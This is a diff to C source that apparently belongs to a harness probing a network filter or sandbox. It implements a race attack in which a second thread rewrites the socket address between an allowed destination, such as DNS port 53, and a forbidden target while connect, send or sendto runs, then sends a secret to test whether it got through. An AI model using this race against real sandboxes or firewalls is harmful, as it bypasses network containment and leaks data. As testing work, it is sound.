@@ -14,18 +14,20 @@
 #include <string.h>
 #include <unistd.h>
 
-static struct sockaddr_in swapped;
-static const struct scene *scene;
+static union {
+	struct sockaddr_in addr;
+	uint64_t first; /* family, port and address: swapped by one store */
+} swapped, right, wrong;
 static atomic_bool stop;
 
 static void *swapper(void *unused)
 {
-	volatile in_addr_t *at = &swapped.sin_addr.s_addr;
+	volatile uint64_t *at = &swapped.first;
 
 	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
 		for (int i = 0; i < 64; i++) {
-			*at = scene->allowed4.sin_addr.s_addr;
-			*at = scene->target4.sin_addr.s_addr;
+			*at = right.first;
+			*at = wrong.first;
 		}
 	}
 	return unused;
@@ -42,7 +44,7 @@ static bool try_tcp(const struct scene *s)
 	bool won = false;
 
 	setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof(reset));
-	if ((connect(fd, (const void *)&swapped, sizeof(swapped)) == 0 ||
+	if ((connect(fd, (const void *)&swapped, sizeof(swapped.addr)) == 0 ||
 	     errno == EINPROGRESS) &&
 	    poll(&pfd, 1, 5) == 1)
 		won = same_peer(fd, &s->target4);
@@ -67,7 +69,8 @@ static bool try_udp(const struct scene *s)
 {
 	int fd = new_socket(AF_INET, SOCK_DGRAM, 0);
 	struct pollfd pfd = {.fd = fd, .events = POLLIN};
-	bool won = connect(fd, (const void *)&swapped, sizeof(swapped)) == 0 &&
+	bool won = connect(fd, (const void *)&swapped, sizeof(swapped.addr)) ==
+			   0 &&
 		   same_peer(fd, &s->target4) &&
 		   send(fd, s->secret, strlen(s->secret), 0) > 0 &&
 		   poll(&pfd, 1, 5) == 1 && echoed(s, fd);
@@ -83,20 +86,23 @@ static bool try_sendto(const struct scene *s)
 	if (fd < 0)
 		fd = new_socket(AF_INET, SOCK_DGRAM, 0);
 	sendto(fd, s->secret, strlen(s->secret), MSG_DONTWAIT,
-	       (const void *)&swapped, sizeof(swapped));
+	       (const void *)&swapped, sizeof(swapped.addr));
 	return echoed(s, fd);
 }
 
-static enum verdict race(const struct scene *s, try_fn *try)
+static enum verdict race(const struct scene *s, in_port_t right_port,
+			 in_port_t wrong_port, try_fn *try)
 {
 	int64_t end = now_us() + 25 * 1000000;
 	unsigned int i;
 	pthread_t thread;
 	bool won = false;
 
-	scene = s;
-	swapped = s->target4;
-	swapped.sin_port = s->closed_port;
+	right.addr = s->allowed4;
+	right.addr.sin_port = right_port;
+	wrong.addr = s->target4;
+	wrong.addr.sin_port = wrong_port;
+	swapped = wrong;
 	if (pthread_create(&thread, NULL, swapper, NULL) != 0)
 		return say(UNTRIED, "no second thread");
 	for (i = 0; i < s->tries && !won && now_us() < end; i++)
@@ -108,17 +114,18 @@ static enum verdict race(const struct scene *s, try_fn *try)
 
 static enum verdict tcp(const struct scene *s)
 {
-	return race(s, try_tcp);
+	return race(s, s->closed_port, s->closed_port, try_tcp);
 }
 
+/* Of datagrams, only questions for names get past the check. */
 static enum verdict udp(const struct scene *s)
 {
-	return race(s, try_udp);
+	return race(s, htons(53), s->target4.sin_port, try_udp);
 }
 
 static enum verdict by_sendto(const struct scene *s)
 {
-	return race(s, try_sendto);
+	return race(s, htons(53), s->target4.sin_port, try_sendto);
 }
 
 const struct attack attack_swap = {
